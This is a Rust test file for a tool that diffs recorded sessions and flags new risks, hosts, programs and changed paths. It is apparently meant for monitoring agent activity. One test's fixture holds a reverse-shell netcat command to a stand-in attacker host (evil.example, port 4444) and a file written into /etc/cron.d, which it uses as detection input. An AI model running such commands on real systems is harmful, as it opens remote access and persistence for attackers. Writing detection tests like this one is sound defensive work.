use capsule_core::{ProcId, Severity};

use super::{Diff, FailOn, diff_human};
use crate::support::{self, tool};
use crate::{Options, SessionView};

fn base() -> SessionView {
    let mut made = support::sample();
    made.done(ProcId(1), 4500, 5, &["kill", "41234"], tool(None, "kill 41234"), 0);
    made.view(5000)
}

#[test]
fn runs_that_differ_only_in_numbers_are_equal() {
    let mut made = support::sample();
    made.done(ProcId(1), 4500, 5, &["kill", "51234"], tool(None, "kill 51234"), 0);
    let diff = Diff::between(&base(), &made.view(6000), &Options::default());
    assert!(diff.commands.added.is_empty() && diff.commands.removed.is_empty(), "{diff:#?}");
    let all: Vec<FailOn> = FailOn::ALL.iter().map(|(kind, _)| *kind).collect();
    assert_eq!(diff.failures(&all), Vec::<String>::new());
}

#[test]
fn new_risks_hosts_programs_and_paths_are_named() {
    let mut made = support::sample();
    let nc = made.done(ProcId(1), 4500, 5, &["nc", "evil.example", "4444"], tool(None, "nc evil.example 4444"), 0);
    made.connect(nc, 4501, "203.0.113.9", 4444);
    made.effect(nc, 4502, capsule_core::EffectKind::FileCreate, "/etc/cron.d/x", None);
    for own in ["/home/user/.claude/sessions/1", "/home/user/.npm/_cacache/x", "/tmp/scratch"] {
        made.effect(nc, 4503, capsule_core::EffectKind::FileCreate, own, None);
    }
    made.risk(nc, Severity::Critical, "Reverse shell", "why");
    made.risk(nc, Severity::Info, "Looked around", "why");
    let diff = Diff::between(&base(), &made.view(5000), &Options::default());
    let on = |name: &str| diff.failures(&[FailOn::from_name(name).unwrap()]);
    assert_eq!(on("new-risk"), ["new risk: made.reverse-shell"]);
    assert_eq!(on("new-host"), ["new host: 203.0.113.9"]);
    assert_eq!(on("new-program"), ["new program: nc"]);
    assert_eq!(on("new-path"), ["new changed path: /etc/cron.d/x"]);
    assert_eq!(diff.programs.removed.len(), 1);
    let mut out = Vec::new();
    diff_human(&diff, &Options::default(), &mut out).unwrap();
    insta::assert_snapshot!(String::from_utf8(out).unwrap());
}
